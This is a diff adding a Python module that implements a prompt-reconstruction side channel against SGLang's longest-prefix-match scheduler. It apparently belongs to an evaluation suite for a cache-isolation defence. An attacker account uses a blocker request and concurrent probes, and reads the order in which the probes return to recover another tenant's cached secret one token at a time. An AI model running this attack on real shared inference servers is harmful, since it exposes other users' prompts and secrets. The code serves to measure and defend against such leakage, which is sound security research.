@@ -1,0 +1,258 @@
+"""Attack 2: token-by-token reconstruction from the LPM scheduling order (PromptPeek, NDSS 2025).
+
+With ``--schedule-policy lpm`` SGLang sorts its waiting queue by the length of each request's
+cached prefix, longest first. (SGLang 0.5.23 defaults to ``fcfs``; the evaluation starts every
+mode with ``lpm``, the setting this attack needs and many deployments choose for its hit
+rate.) If several of the attacker's probes wait in the queue together, the one that shares
+one more token with a victim's cached prompt is scheduled first, so its first token comes
+back first. The signal is the *order*, not a duration, so a single token of difference is
+enough.
+
+One round, for the next secret token after the recovered prefix ``known``:
+
+1. The attacker (second account) sends a *blocker*: a long prompt of random tokens, so the
+   scheduler is busy with its prefill while the probes arrive.
+2. A few milliseconds later it sends, concurrently and in random order, one probe per
+   candidate token ``t``: ``known + [t] + pad`` (pad: a few random tokens, unique per probe).
+3. When the blocker's step ends, the scheduler sorts the queued probes by cached prefix
+   length; they are admitted (and their first tokens streamed) in that order. The first probe
+   to return names the attacker's guess for the next token.
+
+Candidates per round are the distinct next tokens of the candidate values (from the
+attacker's candidate set) that agree with the tokens recovered so far; positions where only
+one candidate value is left need no round. A round counts as *blocked* when the blocker's
+first token came back after the last probe was sent and before any probe's; the summary
+reports accuracy over all rounds and over blocked rounds. Probes cache themselves, which is harmless here: the next round's probes all extend
+the same recovered prefix, so each shares exactly that much with the attacker's own entries.
+
+Without a leak every probe has the same cached length, the sort is stable, and the first
+probe *sent* wins: with the send order shuffled, a right guess happens at chance (1/k).
+"""
+
+from __future__ import annotations
+
+import asyncio
+import dataclasses
+import random
+import statistics
+from collections.abc import Sequence
+
+from tqdm.auto import tqdm
+
+from sglang_safekv.evaluation.attacks.common import FillerTokens, send_victims
+from sglang_safekv.evaluation.attacks.ttft_reconstruction import plan_probes
+from sglang_safekv.evaluation.client import ApiClient, Measurement
+from sglang_safekv.evaluation.codec import Codec
+from sglang_safekv.evaluation.victims import Victim
+
+
+@dataclasses.dataclass(frozen=True)
+class LpmSettings:
+    blocker_tokens: int = 3072
+    blocker_lead_s: float = 0.05  # between the blocker and the probes
+    pad_tokens: int = 4
+    max_candidates: int = 64  # keep the queue under SGLang's 128 (beyond it LPM turns FCFS)
+    victim_max_tokens: int = 4
+    settle_s: float = 2.0
+    attacker: str = "attacker001"
+    blocker_account: str = "attacker002"
+    seed: int = 11
+
+
+@dataclasses.dataclass
+class Round:
+    depth: int  # token position within the secret
+    candidates: int
+    on_true_path: bool  # the recovered prefix so far equals the secret's
+    guessed_right: bool | None  # None when the true token is not among the candidates
+    blocked: bool
+    margin_ms: float | None  # first probe's lead over the second
+
+
+@dataclasses.dataclass
+class SecretWalk:
+    tenant: str
+    kind: str
+    secret_tokens: int
+    recovered: bool
+    rounds: list[Round]
+    chance: float  # probability that guessing uniformly at every round finds the secret
+
+
+@dataclasses.dataclass
+class LpmResult:
+    walks: list[SecretWalk]
+    probes_sent: int
+
+    def summary(self) -> dict:
+        rounds = [r for w in self.walks for r in w.rounds if r.on_true_path]
+        scored = [r for r in rounds if r.guessed_right is not None]
+        blocked = [r for r in scored if r.blocked]
+        n = len(self.walks)
+        return {
+            "secrets": n,
+            "recovered": sum(w.recovered for w in self.walks),
+            "success_rate": sum(w.recovered for w in self.walks) / n if n else None,
+            "rounds": len(scored),
+            "rounds_blocked": len(blocked),
+            "token_accuracy": (
+                sum(r.guessed_right for r in scored) / len(scored) if scored else None
+            ),
+            "token_accuracy_blocked": (
+                sum(r.guessed_right for r in blocked) / len(blocked) if blocked else None
+            ),
+            "chance_token_accuracy": (
+                statistics.mean(1 / r.candidates for r in scored) if scored else None
+            ),
+            "chance_secret_rate": statistics.mean(w.chance for w in self.walks) if n else None,
+            "probes_sent": self.probes_sent,
+            "per_victim": [
+                {
+                    "tenant": w.tenant,
+                    "kind": w.kind,
+                    "recovered": w.recovered,
+                    "rounds": len(w.rounds),
+                    "right": sum(bool(r.guessed_right) for r in w.rounds),
+                }
+                for w in self.walks
+            ],
+        }
+
+
+class _Trie:
+    """Candidate values as token sequences; children of a recovered prefix."""
+
+    def __init__(self, seqs: dict[str, list[int]]):
+        self.seqs = seqs
+
+    def children(self, known: Sequence[int]) -> list[int]:
+        depth = len(known)
+        out = {
+            s[depth]
+            for s in self.seqs.values()
+            if len(s) > depth and list(s[:depth]) == list(known)
+        }
+        return sorted(out)
+
+    def chance(self, truth: Sequence[int]) -> float:
+        """Probability of walking to ``truth`` by uniform guesses at every branching."""
+        p = 1.0
+        for depth in range(len(truth)):
+            p /= max(1, len(self.children(truth[:depth])))
+        return p
+
+    def complete(self, known: Sequence[int]) -> str | None:
+        """The value whose tokens are exactly ``known`` and nothing else extends it."""
+        exact = [v for v, s in self.seqs.items() if list(s) == list(known)]
+        return exact[0] if exact and not self.children(known) else None
+
+
+async def _round(
+    client: ApiClient,
+    settings: LpmSettings,
+    filler: FillerTokens,
+    rng: random.Random,
+    prefix: list[int],
+    known: list[int],
+    children: list[int],
+) -> tuple[int, bool, float | None, int]:
+    """One blocked round; returns (winning token, blocked, margin ms, probes sent)."""
+    order = children[:]
+    rng.shuffle(order)
+    probes = {t: prefix + known + [t] + filler.take(settings.pad_tokens) for t in order}
+    blocker_ids = filler.take(settings.blocker_tokens)
+    blocker = asyncio.create_task(
+        client.complete_ids(settings.blocker_account, blocker_ids, max_tokens=1)
+    )
+    await asyncio.sleep(settings.blocker_lead_s)
+    tasks = [
+        asyncio.create_task(client.complete_ids(settings.attacker, probes[t], max_tokens=1))
+        for t in order
+    ]
+    results: list[Measurement] = await asyncio.gather(*tasks)
+    blocker_m: Measurement = await blocker
+    failed = [m.error for m in [*results, blocker_m] if not m.ok]
+    if failed:
+        raise RuntimeError(f"LPM round failed: {failed[0]}")
+    # Valid only if the blocker was scheduled before every probe and was still running when
+    # the last probe left the client (so all probes waited in the queue together).
+    last_sent = max(m.started_at for m in results)
+    first_probe = min(m.first_token_at for m in results)
+    blocked = last_sent < blocker_m.first_token_at < first_probe
+    ranked = sorted(zip(order, results), key=lambda p: p[1].first_token_at)
+    margin = None
+    if len(ranked) > 1:
+        margin = (ranked[1][1].first_token_at - ranked[0][1].first_token_at) * 1000
+    return ranked[0][0], blocked, margin, len(order) + 1
+
+
+async def run(
+    client: ApiClient,
+    codec: Codec,
+    victims: Sequence[Victim],
+    settings: LpmSettings,
+    progress: bool = True,
+) -> LpmResult:
+    plans = {v.tenant: plan_probes(codec, v, 1, 1) for v in victims}
+    await send_victims(
+        client, [(v.tenant, v.messages()) for v in victims], settings.victim_max_tokens
+    )
+    await asyncio.sleep(settings.settle_s)
+    filler = FillerTokens(codec, settings.seed)
+    rng = random.Random(settings.seed)
+    sent = 0
+    # Warm the public prefixes for the attacker (matters in isolated mode only).
+    for v in victims:
+        await client.complete_ids(settings.attacker, plans[v.tenant][0].prefix + filler.take(4))
+        sent += 1
+    walks = []
+    with tqdm(total=len(victims), desc="lpm walks", unit="secret", disable=not progress) as bar:
+        for v in victims:
+            plan = plans[v.tenant]
+            prefix = plan[0].prefix
+            seqs = {value: p.candidate for value, p in zip(v.candidates, plan)}
+            truth = seqs[v.secret.value]
+            trie = _Trie(seqs)
+            known: list[int] = []
+            rounds: list[Round] = []
+            claimed = None
+            while True:
+                children = trie.children(known)
+                if not children:
+                    claimed = trie.complete(known)
+                    break
+                if len(children) == 1:
+                    known.append(children[0])
+                    continue
+                children = children[: settings.max_candidates]
+                on_path = list(truth[: len(known)]) == known
+                right_token = truth[len(known)] if on_path and len(truth) > len(known) else None
+                winner, blocked, margin, n = await _round(
+                    client, settings, filler, rng, prefix, known, children
+                )
+                sent += n
+                rounds.append(
+                    Round(
+                        depth=len(known),
+                        candidates=len(children),
+                        on_true_path=on_path,
+                        guessed_right=None
+                        if right_token not in children
+                        else winner == right_token,
+                        blocked=blocked,
+                        margin_ms=margin,
+                    )
+                )
+                known.append(winner)
+            walks.append(
+                SecretWalk(
+                    v.tenant,
+                    v.secret.kind,
+                    len(truth),
+                    claimed == v.secret.value,
+                    rounds,
+                    trie.chance(truth),
+                )
+            )
+            bar.update(1)
+    return LpmResult(walks, sent)
